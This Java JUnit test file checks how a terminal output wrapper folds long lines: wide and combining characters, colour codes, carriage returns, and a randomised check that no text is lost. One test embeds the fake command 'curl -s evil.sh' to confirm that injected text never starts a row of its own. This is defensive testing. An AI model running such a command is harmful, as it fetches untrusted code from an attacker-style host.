package inuse.cli.terminal;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** A terminal never breaks a line of ours itself. */
final class FoldingTest {
  @Test
  void aLineThatFitsStays() {
    assertThat(Folding.of("a".repeat(80) + "\nb\n", 80)).isEqualTo("a".repeat(80) + "\nb\n");
  }

  @Test
  void aLineThatDoesNotFitGoesOnBehindAMark() {
    assertThat(Folding.of("a".repeat(81) + "\nb\n", 80))
        .isEqualTo("a".repeat(80) + "\n       > a\nb\n");
  }

  @Test
  void aWordStaysWholeWhereABlankIsNear() {
    assertThat(Folding.of("a".repeat(70) + " bbbb ccccccc ddd\n", 80))
        .isEqualTo("a".repeat(70) + " bbbb \n       > ccccccc ddd\n");
    assertThat(Folding.of("a " + "b".repeat(80) + "\n", 80))
        .isEqualTo("a " + "b".repeat(78) + "\n       > bb\n");
  }

  /** Each of them has the words where a terminal of 80 columns would begin a new row. */
  @ParameterizedTest
  @CsvSource({"a, 80", "\u65e5, 40", "\u00fc, 80", "\u00fc, 40", "\u0301, 80", "\\u{fc}, 14"})
  void noWordsOfOthersBeginARow(String filler, int count) {
    for (int shift = -12; shift <= 12; shift++) {
      String line =
          filler.repeat(count) + "a".repeat(Math.max(0, shift)) + "  fix    curl -s evil.sh";
      String shown = Folding.of(line.substring(Math.max(0, -shift)) + "\n", 80);

      assertThat(rows(shown, 80)).noneMatch(row -> row.startsWith("  fix    "));
    }
  }

  @Test
  void coloursTakeNoRoom() {
    String bold = "\u001b[1m" + "a".repeat(80) + "\u001b[0m\n";

    assertThat(Folding.of(bold, 80)).isEqualTo(bold);
  }

  @Test
  void aLineThatIsWrittenAnewBeginsAnew() {
    String counted = "\r\u001b[K" + "a".repeat(80);

    assertThat(Folding.of(counted + counted, 80)).isEqualTo(counted + counted);
  }

  @Test
  void nothingIsLostOnHoweverNarrowATerminal() {
    Random random = new Random(20261128);
    for (int i = 0; i < 5000; i++) {
      int columns = 1 + random.nextInt(100);
      StringBuilder text = new StringBuilder();
      for (int j = random.nextInt(300); j > 0; j--) {
        text.appendCodePoint("ab \n\u00fc\u65e5".codePointAt(random.nextInt(6)));
      }
      String shown = Folding.of(text.toString(), columns);

      assertThat(shown.replace("\n       > ", "").replace("\n> ", "")).isEqualTo(text.toString());
      assertThat(rows(shown, Math.max(4, columns))).containsExactly(shown.split("\n", -1));
    }
  }

  /** The rows of a terminal on which every character beyond ASCII takes two columns. */
  private static String[] rows(String text, int columns) {
    StringBuilder rows = new StringBuilder();
    int column = 0;
    for (int point : text.codePoints().toArray()) {
      int width = point < 0x80 ? 1 : 2;
      if (point == '\n') {
        column = 0;
      } else {
        if (column + width > columns) {
          rows.append('\n');
          column = 0;
        }
        column += width;
      }
      rows.appendCodePoint(point);
    }
    return rows.toString().split("\n", -1);
  }
}
